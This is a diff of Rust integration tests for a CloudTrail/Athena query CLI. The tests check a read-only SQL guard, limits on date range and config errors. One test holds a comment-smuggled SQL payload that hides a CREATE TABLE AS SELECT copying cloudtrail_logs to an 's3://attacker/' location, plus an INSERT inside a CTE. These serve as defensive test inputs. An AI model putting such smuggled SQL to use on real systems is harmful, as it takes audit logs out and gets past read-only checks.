@@ -7,10 +7,17 @@ use std::process::{Command, Output, Stdio};
 const BIN: &str = env!("CARGO_BIN_EXE_sagewatch");
 
 fn run(args: &[&str]) -> Output {
+    run_with(&[], args)
+}
+
+/// `sagewatch --demo ... GLOBAL trail ARGS`.
+fn run_with(global: &[&str], args: &[&str]) -> Output {
     let home = std::env::temp_dir().join(format!("sagewatch-cli-trail-{}", std::process::id()));
     std::fs::create_dir_all(&home).unwrap();
     Command::new(BIN)
-        .args(["--demo", "--demo-start", "2026-11-26T10:00:00Z", "trail"])
+        .args(["--demo", "--demo-start", "2026-11-26T10:00:00Z"])
+        .args(global)
+        .arg("trail")
         .args(args)
         .env_clear()
         .env("PATH", std::env::var("PATH").unwrap_or_default())
@@ -134,4 +141,107 @@ fn max_rows_is_bounded() {
         assert!(stderr(&out).contains("--max-rows"), "{}", stderr(&out));
         assert!(stdout(&out).is_empty());
     }
+}
+
+#[test]
+fn a_write_hidden_by_a_comment_is_refused_before_anything_is_sent() {
+    // sqlparser's generic dialect nests comments and read only the SELECT; Athena's engine
+    // ends the first comment at its first `*/` and would run the CTAS.
+    let hidden = "/* /* */ CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS \
+                  SELECT * FROM cloudtrail_logs -- */ SELECT eventname FROM cloudtrail_logs \
+                  WHERE \"timestamp\" = '2026/11/29'";
+    for global in [&[][..], &["--readonly"]] {
+        let out = run_with(global, &["--sql", hidden, "--yes"]);
+        assert_eq!(code(&out), 2, "{}", stderr(&out));
+        assert!(
+            stderr(&out).contains("remove the comments"),
+            "{}",
+            stderr(&out)
+        );
+        assert!(stdout(&out).is_empty(), "nothing ran: {}", stdout(&out));
+    }
+    let out = run(&[
+        "--sql",
+        "WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a",
+        "--yes",
+    ]);
+    assert_eq!(code(&out), 2, "{}", stderr(&out));
+    assert!(stderr(&out).contains("holds INSERT"), "{}", stderr(&out));
+}
+
+#[test]
+fn a_range_wider_than_max_range_days_needs_yes_however_it_is_written() {
+    // The demo's clock is 2026-11-26T10:00:00Z; the bound is 31 days unless configured.
+    let cases = [
+        (
+            vec!["since:2000-01-01T00:00:00Z"],
+            "the search covers 9827 days (2000-01-01T00:00:00Z to 2026-11-26T10:00:00Z)",
+        ),
+        (vec!["since:40d"], "the search covers 40 days"),
+        (
+            vec!["since:2026-01-01T00:00:00Z until:2026-03-01T00:00:00Z"],
+            "the search covers 59 days",
+        ),
+        (
+            vec![
+                "--sql",
+                "SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" BETWEEN '2000/01/01' AND '2026/11/26'",
+            ],
+            "from 2000/01/01 to 2026/11/26 (9826 days)",
+        ),
+    ];
+    for (args, says) in cases {
+        let out = run(&args);
+        assert_eq!(code(&out), 2, "{args:?}: {}", stderr(&out));
+        let err = stderr(&out);
+        assert!(err.contains(says), "{args:?}: {err}");
+        assert!(err.contains("more than max_range_days = 31"), "{err}");
+        assert!(
+            err.contains("add --yes to run it anyway (nothing was sent)"),
+            "{err}"
+        );
+        assert!(stdout(&out).is_empty(), "{}", stdout(&out));
+        // Printing it sends nothing, so it needs no --yes.
+        let mut print = args.clone();
+        print.push("--print-sql");
+        let out = run(&print);
+        assert_eq!(code(&out), 0, "{args:?}: {}", stderr(&out));
+    }
+    // Up to the bound it runs; with --yes, wider too, the warning said first.
+    let out = run(&["since:31d", "--max-rows", "1"]);
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    let out = run(&["since:40d", "--yes", "--max-rows", "1"]);
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("warning: the search covers 40 days"),
+        "{}",
+        stderr(&out)
+    );
+}
+
+#[test]
+fn the_bound_is_the_configs_max_range_days() {
+    let dir = std::env::temp_dir().join(format!("sagewatch-cli-range-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let config = dir.join("config.toml");
+    std::fs::write(&config, "[trail]\nmax_range_days = 60\n").unwrap();
+    let config = config.to_string_lossy().into_owned();
+    let out = run_with(&["--config", &config], &["since:40d", "--max-rows", "1"]);
+    assert_eq!(code(&out), 0, "{}", stderr(&out));
+    let out = run_with(&["--config", &config], &["since:61d"]);
+    assert_eq!(code(&out), 2, "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("more than max_range_days = 60"),
+        "{}",
+        stderr(&out)
+    );
+    // A bad bound is pointed at in the file.
+    std::fs::write(&config, "[trail]\nmax_range_days = 0\n").unwrap();
+    let out = run_with(&["--config", &config], &["since:1h"]);
+    assert_eq!(code(&out), 2, "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains(&format!("{config}:2:18")),
+        "{}",
+        stderr(&out)
+    );
 }
